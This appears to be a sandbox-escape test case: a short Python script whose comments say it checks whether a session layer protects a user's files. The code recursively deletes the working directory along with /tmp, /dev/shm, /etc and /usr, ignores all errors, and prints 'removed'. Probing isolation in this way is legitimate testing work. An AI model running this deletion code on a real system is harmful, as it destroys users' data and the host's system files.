# try: remove all there is
# layer: session
# effect: file: the user's file is gone
# want: removed
# bare: no, the parent copies files without a sandbox too
import os, shutil
for name in os.listdir('.') + ['/tmp', '/dev/shm', '/etc', '/usr']:
    shutil.rmtree(name, ignore_errors=True)
    try:
        os.remove(name)
    except OSError:
        pass
print('removed')
